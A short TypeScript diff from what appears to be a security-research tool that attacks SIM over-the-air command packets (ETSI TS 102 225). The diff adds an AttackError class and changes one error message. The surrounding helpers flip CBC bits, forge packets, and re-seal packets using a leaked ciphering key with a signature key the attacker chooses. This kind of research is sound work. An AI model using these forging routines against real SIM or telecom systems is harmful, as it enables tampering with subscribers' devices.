@@ -9,6 +9,14 @@ import { decodeCommandPacket, encodeCommandPacket } from '../protocol/ts-102-225
 import { encodeKeyIdentifier } from '../protocol/ts-102-225-coding.ts';
 import { OBF_TAR } from '../protocol/obf-profile.ts';
 
+/** The attack cannot be mounted on this packet (e.g. it is not what the profile says it should be). */
+export class AttackError extends Error {
+  constructor(message: string) {
+    super(message);
+    this.name = 'AttackError';
+  }
+}
+
 /** Flip the lowest bit of the last byte: in CBC this garbles only the last plaintext block. */
 export function flipLastBit(packet: Uint8Array): Uint8Array {
   const out = packet.slice();
@@ -42,7 +50,7 @@ export function forgeRcOnly(text: string, keyIndex = 1): Uint8Array {
 /** Decipher with the (leaked) KIc key, replace the data, re-cipher, and sign with a key of the attacker's own. */
 export function resealWithCipheringKeyOnly(packet: Uint8Array, text: string, kicKey: Uint8Array): Uint8Array {
   const p = decodeCommandPacket(packet, { kic: kicKey });
-  if (!p.cntr) throw new Error('packet could not be deciphered with the given KIc key');
+  if (!p.cntr) throw new AttackError('the packet is not ciphered with a KIc, nothing to re-seal');
   return encodeCommandPacket({
     spi: p.spi.raw, kic: p.kic.raw, kid: p.kid.raw, tar: p.tar, cntr: p.cntr,
     data: new TextEncoder().encode(text), keys: { kic: kicKey, kid: randomBytes(kicKey.length) }, ccLength: p.checkLength,
